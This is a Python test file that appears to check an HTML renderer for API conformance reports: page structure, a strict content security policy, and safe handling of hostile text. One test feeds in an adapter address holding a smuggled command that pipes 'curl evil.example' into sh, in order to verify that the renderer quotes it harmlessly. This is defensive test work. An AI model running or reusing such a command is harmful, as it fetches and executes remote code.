"""The page as text: what stands in it, and what hostile text can not make of it."""

from __future__ import annotations

import base64
import hashlib
import re
from collections import Counter
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from itertools import pairwise

import pytest

from conformance.rendering.markdown import markdown
from conformance.rendering.page import html
from conformance.report.check import Outcome
from conformance.report.failure import Example, Trouble
from conformance.report.model import Report, Verdict
from conformance.report.writing import report_text
from tests.rendering.hostile import ATTACKS, LONG, RTL, ZALGO, filled, poisoned
from tests.rendering.samples import CATALOGUE, MOMENT, SAMPLES, cause, full, not_ready, ready


class Parsed(HTMLParser):
    """A page taken apart: its elements, texts, ids and addresses."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: dict[str, str] = {}
        self.headings: list[int] = []
        self._open = [""]
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self._open.append(tag)
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))

    def handle_endtag(self, tag: str) -> None:
        while self._open[-1] != tag and len(self._open) > 1:
            self._open.pop()
        self._open.pop()

    def handle_data(self, data: str) -> None:
        self.texts[self._open[-1]] = self.texts.get(self._open[-1], "") + data

    def values(self, name: str) -> list[str]:
        return [value for _, found, value in self.attributes if found == name]


@pytest.fixture(scope="module")
def pages() -> dict[str, str]:
    return {name: html(made(), CATALOGUE) for name, made in SAMPLES.items()}


@pytest.mark.parametrize("name", SAMPLES)
def test_every_link_inside_the_page_leads_somewhere(pages: dict[str, str], name: str) -> None:
    parsed = Parsed(pages[name])
    ids = parsed.values("id")
    assert len(ids) == len(set(ids))
    inner = {value[1:] for value in parsed.values("href") if value.startswith("#")}
    assert inner - set(ids) == set()
    assert set(parsed.values("aria-labelledby")) <= set(ids)


@pytest.mark.parametrize("name", SAMPLES)
def test_headings_leave_out_no_level(pages: dict[str, str], name: str) -> None:
    headings = Parsed(pages[name]).headings
    assert headings[0] == 1
    assert headings.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(headings))


def test_the_policy_lets_its_own_style_and_script_work_and_nothing_else(
    pages: dict[str, str],
) -> None:
    parsed = Parsed(pages["full"])
    (policy,) = (value for value in parsed.values("content") if value.startswith("default-src"))
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    for directive, element in (("script-src", "script"), ("style-src", "style")):
        digest = base64.b64encode(hashlib.sha256(parsed.texts[element].encode()).digest()).decode()
        assert f"{directive} 'sha256-{digest}'" in policy
    assert not parsed.values("style")
    assert not [name for _, name, _ in parsed.attributes if name.startswith("on")]


def test_the_page_is_one_file_that_loads_nothing(pages: dict[str, str]) -> None:
    parsed = Parsed(pages["full"])
    assert not parsed.values("src")
    known = {
        source.url for item in CATALOGUE.requirements.values() for source in item.sources
    }  # fmt: skip
    outside = {value for value in parsed.values("href") if not value.startswith(("#", "data:"))}
    assert outside <= known
    style = parsed.texts["style"]
    assert "url(" not in style
    assert "@import" not in style


def test_the_script_never_makes_elements_from_text(pages: dict[str, str]) -> None:
    script = Parsed(pages["full"]).texts["script"]
    assert len(script) > 2000
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(", script)


def test_what_blocks_stands_first_with_what_to_change_and_how_to_see_it_again(
    pages: dict[str, str],
) -> None:
    page = pages["not_ready"]
    places = [
        page.index(text)
        for text in (
            "<h1>NOT READY</h1>",
            "lines end in CR LF",
            "join the lines with a single LF (0x0A)",
            "lendico-conformance check --replay target/query -- java -jar signer.jar",
            "white space around the body is cut off",
            "Warnings</h2>",
            "Requirements</h2>",
        )
    ]
    assert places == sorted(places)


def test_both_strings_stand_beside_each_other_with_the_first_difference_marked(
    pages: dict[str, str],
) -> None:
    page = pages["not_ready"]
    row = page[page.index('<tr class="differs">') :]
    row = row[: row.index("</tr>")]
    assert '<mark><span class="chip" title="line feed">\\n</span></mark>' in row
    assert '<mark><span class="chip" title="carriage return">\\r</span></mark>' in row


@pytest.mark.parametrize("name", SAMPLES)
def test_every_requirement_is_listed_with_its_clause_and_its_checks(
    pages: dict[str, str], name: str
) -> None:
    report = SAMPLES[name]()
    for item in report.requirements:
        at = pages[name].index(f'id="{item.id}" data-outcome="{item.outcome}"')
        part = pages[name][at : pages[name].index("</details>", at)]
        known = CATALOGUE.requirements[item.id]
        assert known.sources[0].document in part
        assert all(check.id in part for check in item.checks)


def test_nothing_blocks_a_run_that_is_ready(pages: dict[str, str]) -> None:
    assert "Nothing: every requirement that the plan demands was shown to hold." in pages["ready"]
    assert "data-blocks" not in Parsed(pages["ready"]).texts.get("details", "")
    assert "data-blocks>" not in pages["ready"]


def test_a_waived_failure_does_not_block_and_says_who_answers_for_it(
    pages: dict[str, str],
) -> None:
    page = pages["full"]
    row = page[page.index('id="STR-005"') :]
    assert "data-blocks" not in row[: row.index(">")]
    assert "Partner integration" in page
    assert "OPS-1234" in page


def test_a_cause_of_which_all_is_waived_stands_with_its_waiver(pages: dict[str, str]) -> None:
    page = pages["waived"]
    assert "<h1>READY WITH WAIVERS</h1>" in page
    assert "29 requirements shown to hold in 1,197 requests, 1 waived, 1 warning." in page
    assert page.index("Nothing: the warnings below do not.") < page.index('id="waivers"')
    assert page.index('id="waivers"') < page.index('id="cause-1"') < page.index('id="certificates"')


def test_a_warning_without_a_cause_is_listed(pages: dict[str, str]) -> None:
    warnings = pages["waived"].partition('id="warnings"')[2].partition("</section>")[0]
    assert "STR-003" in warnings
    assert "lines that end in CR LF" in warnings
    assert "join the lines with a single LF" in warnings
    assert "STR-005" not in warnings


def test_what_nobody_saw_is_told_by_its_reason(pages: dict[str, str]) -> None:
    blocks = pages["incomplete"].partition("Not shown</h3>")[2].partition("</article>")[0]
    assert "the adapter has no feature <code>methods</code>" in blocks
    assert blocks.index("nothing in this run checked it") < blocks.index("DIG-002")


def test_what_was_shown_in_part_is_told_so_in_every_rendering() -> None:
    open_one = ready().requirements[0].checks[0]
    half = replace(
        open_one, id=f"{open_one.id}/more", outcome=Outcome.NOT_RUN, reason="unsupported", cases=0
    )
    told = ready()
    first = replace(
        told.requirements[0],
        outcome=Outcome.NOT_RUN, checks=(*told.requirements[0].checks, half),
    )  # fmt: skip
    partly = replace(told, requirements=(first, *told.requirements[1:]), verdict=Verdict.INCOMPLETE)
    page = html(partly, CATALOGUE, MOMENT)
    assert f'id="{first.id}" data-outcome="not_run"' in page
    assert "</svg>in part</span>" in page
    assert "| in part | MUST |" in markdown(partly, CATALOGUE)


def test_a_cause_that_a_story_shows_tells_it() -> None:
    example = Example(case="story:rate-limited", method="GET", target="/ping", body="", size=9)
    told = cause("RATE-001", example=example, kind=Trouble.FINDING, difference="")
    page = html(replace(full(), causes=(told,)), CATALOGUE)
    card = page[page.index('id="cause-1"') :]
    card = card[: card.index("</article>")]
    assert "8 ms later with the same Signature" in card
    assert "Wait two seconds, then send one retry" in card
    assert f'href="#{_story_of(page, "rate-limited")}"' in card


def _story_of(page: str, name: str) -> str:
    found = re.search(rf'<details class="story" id="(story-\d+)"[^>]*>\s*<summary>.*{name}<', page)
    assert found is not None
    return found[1]


def test_a_report_that_has_run_out_says_so() -> None:
    report = ready()
    assert "spoke for its subject until" not in html(report, CATALOGUE, MOMENT)
    late = MOMENT + timedelta(days=91)
    assert "spoke for its subject until" in html(report, CATALOGUE, late)


@pytest.mark.parametrize(
    "forged",
    [
        replace(not_ready(), verdict=Verdict.READY, exit_code=0),
        replace(
            not_ready(),
            verdict=Verdict.READY,
            requirements=tuple(
                replace(item, outcome=Outcome.PASS) for item in not_ready().requirements
            ),
        ),
    ],
    ids=["verdict", "outcomes"],
)
def test_a_verdict_that_its_checks_do_not_give_is_called_into_doubt(forged: Report) -> None:
    says = "Verdict and checks of this report do not fit each other"
    assert says in html(forged, CATALOGUE)
    assert says not in html(not_ready(), CATALOGUE)


@pytest.mark.parametrize("name", SAMPLES)
def test_an_honest_report_is_not_doubted(pages: dict[str, str], name: str) -> None:
    assert 'class="card warn doubt"' not in pages[name]


def test_it_says_which_api_was_called_and_which_challenge_is_answered() -> None:
    assert "<dt>API</dt><dd>local sandbox</dd>" in html(full(), CATALOGUE)
    elsewhere = replace(full(), target="https://api.example/partner-api", challenge="c-77")
    page = html(elsewhere, CATALOGUE)
    assert "<dt>API</dt><dd>https://api.example/partner-api</dd>" in page
    assert "<dt>Challenge</dt><dd><code>c-77</code></dd>" in page


def test_texts_of_another_catalogue_are_told_apart() -> None:
    suite = replace(ready().suite, catalogue_sha256="0" * 64)
    assert "another catalogue" in html(replace(ready(), suite=suite), CATALOGUE)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_hostile_text_changes_no_element_and_no_attribute(attack: str) -> None:
    """In every field at once, ids included, it adds nothing to what a plain word gives."""
    text = re.sub(r"[`\\]|  +", "", attack.strip())
    plain, hostile = (
        Counter(Parsed(html(filled(item), CATALOGUE)).shape) for item in ("word", text)
    )
    assert hostile - plain == Counter()


def test_text_that_is_too_long_is_cut_and_the_page_stays_small() -> None:
    report = poisoned(LONG)
    page = html(report, CATALOGUE)
    assert len(page) < len(report_text(report)) / 2
    assert "characters more)" in page


def test_what_is_unseen_or_turns_the_writing_around_is_written_out() -> None:
    page = html(poisoned(f"{RTL} {ZALGO} \ud800"), CATALOGUE)
    assert "\\u202egnp.exe\\u2066\\u200f\\u200b" in page
    for character in "\u202e\u2066\u200f\u200b\ud800":
        assert character not in page
    assert "\u0301" * 4 not in page


def test_a_command_to_copy_runs_nothing_but_the_suite() -> None:
    report = not_ready()
    evil = replace(report.adapter, address="node a.mjs; curl evil.example|sh $(id) `id`")
    page = html(replace(report, adapter=evil), CATALOGUE)
    assert "-- node &#39;a.mjs;&#39; curl &#39;evil.example|sh&#39; &#39;$(id)&#39;" in page


def test_the_same_report_gives_the_same_page() -> None:
    assert html(full(), CATALOGUE) == html(full(), CATALOGUE)
